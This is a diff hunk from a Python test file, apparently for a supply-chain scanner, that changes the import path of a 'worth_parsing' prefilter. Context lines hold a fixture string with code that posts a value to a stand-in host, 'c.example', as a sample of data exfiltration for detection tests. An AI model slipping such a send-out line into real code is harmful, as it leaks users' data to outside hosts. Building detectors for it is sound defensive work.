@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from mlsupply.evidence.prefilter import worth_parsing
+from mlsupply.evidence.prefilter.choice import worth_parsing
 from tests.test_code_facts import found, init
 
 SENT = "import requests\nrequests.post('https://c.example/x', data=V)\n"
